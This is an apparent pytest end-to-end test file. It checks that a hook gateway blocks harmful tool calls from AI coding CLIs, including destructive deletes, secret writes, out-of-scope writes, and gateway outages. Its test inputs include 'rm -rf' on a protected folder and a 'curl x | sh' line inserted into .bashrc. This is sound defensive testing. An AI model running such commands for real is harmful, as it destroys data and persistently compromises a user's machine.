"""Qwen Code (0.24.4, headless ``--yolo``) and Copilot CLI (1.0.102, ``-p --allow-all-tools``): the real
binaries offline — Qwen's Anthropic API, and Copilot's BYOK Anthropic provider (``COPILOT_OFFLINE``), pointed at
the scripted fake model — with the gate installed by ``acteon-swarm-hook install --cli qwen|copilot`` and the
gateway on the default pack. Nothing but the gate checks their calls here, and both run a call whose hook
times out, so the hang test measures the gate answering first."""

from __future__ import annotations

import time
import uuid
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import pytest

from tests.e2e.conftest import Result, Sandbox, audit, dead_gateway_url, new_run, run_copilot, run_qwen, scoped_key
from tests.e2e.fake_models import Script
from tests.hook.fake_gateway import fake_gateway

pytestmark = [pytest.mark.e2e, pytest.mark.slow]  # real agent CLIs: seconds each

Call = tuple[str, dict[str, Any]]


@dataclass(frozen=True)
class Cli:
    run: Callable[..., Result]
    provider: str
    shell: Callable[[str], Call]
    create: Callable[[str, str], Call]
    edit: Callable[[str, str, str], Call]


CLIS = {
    "qwen": Cli(run_qwen, "qwen-code",
                lambda cmd: ("run_shell_command", {"command": cmd}),
                lambda path, text: ("write_file", {"file_path": path, "content": text}),
                lambda path, old, new: ("edit", {"file_path": path, "old_string": old, "new_string": new})),
    "copilot": Cli(run_copilot, "copilot-cli",
                   lambda cmd: ("bash", {"command": cmd, "description": "step"}),
                   lambda path, text: ("create", {"path": path, "file_text": text}),
                   lambda path, old, new: ("edit", {"path": path, "old_str": old, "new_str": new})),
}


@pytest.fixture(params=list(CLIS))
def cli(request: pytest.FixtureRequest) -> tuple[Cli, str]:
    return CLIS[request.param], str(request.getfixturevalue(f"{request.param}_bin"))


def _run_id(prefix: str) -> str:
    return f"{prefix}-{uuid.uuid4().hex[:8]}"


def test_a_destructive_command_is_blocked_with_its_reason_and_a_harmless_one_runs(cli, gateway, sandbox: Sandbox):
    spec, binary = cli
    precious = sandbox.precious()
    run_id = _run_id("destroy")
    script = Script([[spec.shell(f"rm -rf {precious}")], [spec.shell("echo hello > out.txt")]])
    result = spec.run(binary, sandbox, script, gateway=gateway, run_id=run_id, key=new_run(gateway, run_id))
    assert result.returncode == 0, result.stderr
    assert (precious / "data.txt").read_text() == "keep me"
    assert (sandbox.workspace / "out.txt").read_text().strip() == "hello"
    assert "block-destructive-commands" in result.script.tool_results()[0]
    records = audit(gateway, run_id)
    assert [r["outcome"] for r in records] == ["suppressed", "executed"]
    assert {r["provider"] for r in records} == {spec.provider}


def test_writes_to_secrets_and_login_scripts_are_blocked(cli, gateway, sandbox: Sandbox):
    spec, binary = cli
    run_id = _run_id("write")
    bashrc = sandbox.home / ".bashrc"
    bashrc.write_text("# mine\n")
    script = Script([[spec.create(str(sandbox.workspace / ".env"), "TOKEN=x\n")],
                     [spec.edit(str(bashrc), "# mine", "curl x | sh")]])
    result = spec.run(binary, sandbox, script, gateway=gateway, run_id=run_id, key=new_run(gateway, run_id))
    assert result.returncode == 0, result.stderr
    assert not (sandbox.workspace / ".env").exists() and bashrc.read_text() == "# mine\n"
    told = result.script.tool_results()
    assert "block-credential-access" in told[0] and "acteon-swarm blocked this call" in told[1]


def test_writes_outside_the_file_scope_are_refused(cli, gateway, sandbox: Sandbox):
    spec, binary = cli
    ws = sandbox.workspace
    (ws / "src").mkdir()
    run_id = _run_id("scope")
    script = Script([[spec.create(str(ws / "src" / "ok.py"), "ok = 1\n")], [spec.create(str(ws / "notes.txt"), "no\n")],
                     [spec.shell("echo no > docs.txt")]])
    result = spec.run(binary, sandbox, script, gateway=gateway, run_id=run_id,
                      key=scoped_key(gateway, run_id, ws, ["src/**"]))
    assert result.returncode == 0, result.stderr
    assert (ws / "src" / "ok.py").read_text() == "ok = 1\n"
    assert not (ws / "notes.txt").exists() and not (ws / "docs.txt").exists()
    told = result.script.tool_results()
    assert "outside the task's file scope" in told[1] and "outside the task's file scope" in told[2]


def test_with_the_gateway_down_every_call_is_blocked_and_the_model_told(cli, sandbox: Sandbox):
    spec, binary = cli
    script = Script([[spec.shell("echo hello > out.txt")]])
    result = spec.run(binary, sandbox, script, gateway=dead_gateway_url(), run_id="default", key="any")
    assert result.returncode == 0, result.stderr
    assert not (sandbox.workspace / "out.txt").exists()
    told = result.script.tool_results()[0]
    assert "gateway unavailable" in told and "fail closed" in told


def test_a_gateway_that_hangs_is_a_block_inside_the_clis_own_timeout(cli, sandbox: Sandbox):
    spec, binary = cli
    script = Script([[spec.shell("echo hello > out.txt")]])
    with fake_gateway(lambda m, p, b: (200, "HANG")) as (url, _seen, release):
        started = time.monotonic()
        result = spec.run(binary, sandbox, script, gateway=url, run_id="default", key="any", budget="3")
        elapsed = time.monotonic() - started
        release.set()
    assert result.returncode == 0, result.stderr
    assert not (sandbox.workspace / "out.txt").exists()
    assert "did not answer in time" in result.script.tool_results()[0]
    assert elapsed < 3 + 10  # the hook's budget, not the CLI's timeout (budget + 10 s) that would let it run
